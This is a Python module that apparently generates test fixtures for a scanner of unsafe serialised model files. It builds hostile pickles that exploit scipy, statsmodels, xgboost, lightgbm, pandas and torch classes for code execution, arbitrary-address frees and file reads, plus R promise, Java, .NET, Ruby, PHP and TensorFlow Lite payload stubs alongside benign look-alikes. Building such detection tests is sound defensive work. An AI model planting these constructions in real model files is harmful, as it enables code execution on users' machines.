"""Pickles that name known classes only, whose state or arguments the class takes for code, an address or a path; and
serialisations of other languages, whose readers run what they find."""

import argparse
import gzip
import pickle
import zoneinfo

from . import assembler as a
from .corpus import CODE, MARKER, Family, Sample

REFERENCE = "CWE-502"
DISTRIBUTION = ("scipy.stats._continuous_distns", "norm_gen")
TEMPLATE = (
    "\ndef _parse_args(self,  loc=0, scale=1):\n    return (), loc, scale\n"
    "\ndef _parse_args_rvs(self,  loc=0, scale=1, size=None):\n    return self._argcheck_rvs( loc, scale, size=size)\n"
    "\ndef _parse_args_stats(self,  loc=0, scale=1, moments='mv'):\n    return (), loc, scale, moments\n"
)


def samples() -> list[Sample]:
    """The states, then the foreign serialisations, then what is harmless and looks alike."""
    family = Family("pickle-states")
    for part in (_states, _arguments, _foreign, _benign):
        part(family)
    return family.samples


def instance(module: str, name: str, state: object) -> bytes:
    """An instance of a class, made without its constructor, with a state."""
    return a.stream(a.global_(module, name) + a.EMPTY_TUPLE + a.NEWOBJ + a.value(state) + a.BUILD)


def _states(family: Family) -> None:
    put = family.hostile
    source = {"_parse_arg_template": CODE}
    put("scipy_source.pkl", "rv_generic.__setstate__ executes the source in its state", instance(*DISTRIBUTION, source), REFERENCE)
    put("scipy_source_tail.pkl", "the same, behind the text that scipy itself writes", instance(*DISTRIBUTION, {"_parse_arg_template": TEMPLATE + CODE}), REFERENCE)
    put("scipy_source_pairs.pkl", "the state is a list of pairs, which dict.update takes too", instance(*DISTRIBUTION, list(source.items())), REFERENCE)
    ordered = a.Raw(a.call("collections", "OrderedDict", (list(source.items()),)))
    put("scipy_source_ordered.pkl", "the state is an OrderedDict", instance(*DISTRIBUTION, ordered), REFERENCE)
    put("scipy_source_twice.pkl", "the key stands twice: the last one counts", a.stream(a.global_(*DISTRIBUTION) + a.EMPTY_TUPLE + a.NEWOBJ + a.EMPTY_DICT + a.MARK + a.value("_parse_arg_template") + a.value(TEMPLATE) + a.value("_parse_arg_template") + a.value(CODE) + a.SETITEMS + a.BUILD), REFERENCE)
    put("statsmodels_edgeworth.pkl", "a class of statsmodels that inherits the same", instance("statsmodels.distributions.edgeworth", "ExpandedNormal", source), REFERENCE)
    for flag in ("restore_model_spec", "restore_design_info"):
        put(f"statsmodels_formula_{flag}.pkl", "ModelData.__setstate__ evaluates the formula", instance("statsmodels.base.data", "PandasData", {flag: True, "frame": {}, "formula": f"y ~ I({CODE})"}), REFERENCE)
    for module, name, key in (("xgboost.core", "DMatrix", "handle"), ("lightgbm.basic", "Dataset", "_handle"), ("lightgbm.basic", "Booster", "_handle"), ("xgboost.core", "Booster", "handle")):
        put(f"address_{name}_{module.partition('.')[0]}.pkl", f"{module}.{name} is given an address, which its destructor frees", instance(module, name, {key: 0x4141414141414141}), "CWE-822")


def _arguments(family: Family) -> None:
    put = family.hostile
    for module, name, argument in (
        ("transformers.models.bert.tokenization_bert", "BertTokenizer", "/etc/passwd"),
        ("pandas", "ExcelWriter", MARKER),
        ("pandas", "HDFStore", MARKER),
        ("pandas", "ExcelFile", "http://127.0.0.1:9/a.xlsx"),
        ("pandas.core.computation.expr", "Expr", "@pickle"),
        ("scipy.io.matlab._mio5", "MatFile5Reader", MARKER),
        ("fractions", "Fraction", "1e3000000000"),
    ):
        put(f"argument_{name}.pkl", f"{module}.{name} with an argument that it opens, evaluates or computes", a.stream(a.call(module, name, (argument,))), REFERENCE)
    put("rebuild_from_type.pkl", "torch's _rebuild_from_type_v2 calls a function that may only be named", a.stream(a.call("torch._tensor", "_rebuild_from_type_v2", (a.Raw(a.global_("numpy", "ones")), a.Raw(a.global_("numpy", "ndarray")), (2**46,), {}))), "CWE-789")
    put("getattr_zone.pkl", "getattr on the class of time zones, by another name", a.stream(a.call("builtins", "getattr", (a.Raw(a.global_("zoneinfo", "ZoneInfo")), "__init__"))), REFERENCE)


def _foreign(family: Family) -> None:
    """Readers of these run what they find: R promises, gadgets of Java, .NET and Ruby, operators of TensorFlow Lite."""
    header = b"X\n" + bytes.fromhex("00000003 00040301 00030500 00000005") + b"UTF-8"
    put = family.hostile
    put("promise.rds", "R: a promise is code", header + bytes.fromhex("00000405 000000fd 000000fc 00000006 00000001 00040009 00000006") + b"system", "CVE-2024-27322")
    put("promise_gz.rds", "the same, compressed as R writes it", gzip.compress(header + bytes(16), mtime=0), "CVE-2024-27322")
    put("workspace.RData", "a workspace of R", gzip.compress(b"RDX3\n" + header + bytes(16), mtime=0), "CVE-2024-27322")
    put("workspace_without_a_name", "a workspace of R without an ending", b"RDX2\n" + header, "CVE-2024-27322")
    put("gadget.model", "serialised Java, as WEKA keeps models", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(16), REFERENCE)
    put("gadget.mlnet", "serialised .NET", bytes.fromhex("0001000000ffffffff0100000000000000") + b"\x0c\x02" + bytes(16), REFERENCE)
    put("gadget.marshal", "serialised Ruby", b"\x04\x08o:\x11Gem::Installer" + bytes(8), REFERENCE)
    put("program.bin", "a PHP program before an archive", b"<?php system('true'); __HALT_COMPILER(); ?>\r\n" + bytes(range(256)), REFERENCE)
    put("flex.tflite", "TensorFlow Lite with an operator of TensorFlow", b"\x1c\0\0\0TFL3" + bytes(8) + b"FlexReadFile" + bytes(4))


def _benign(family: Family) -> None:
    put = family.benign
    for version in range(6):
        put(f"zone_p{version}.pkl", "a time zone", pickle.dumps(zoneinfo.ZoneInfo("Europe/Berlin"), version))
    put("arguments.pkl", "the arguments of a training", pickle.dumps(argparse.Namespace(rate=0.1, layers=[4, 2])))
    put("scipy_source_own.pkl", "a distribution with the text that scipy itself writes", instance(*DISTRIBUTION, {"_parse_arg_template": TEMPLATE, "name": "norm"}))
    put("statsmodels_formula_plain.pkl", "a formula of names", instance("statsmodels.base.data", "PandasData", {"formula": "y ~ a + b:c"}))
    put("booster_text.pkl", "a booster whose handle is its text", instance("lightgbm.basic", "Booster", {"_handle": "tree\n"}))
